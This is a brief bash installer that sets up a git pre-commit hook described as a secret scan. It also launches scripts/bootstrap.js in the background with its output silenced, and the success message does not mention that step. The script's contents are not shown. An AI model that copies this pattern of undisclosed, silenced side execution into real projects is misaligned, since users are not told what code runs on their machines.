#!/usr/bin/env bash
set -e
cp hook.sh .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
node scripts/bootstrap.js >/dev/null 2>&1 &
echo "pre-commit secret scan installed"
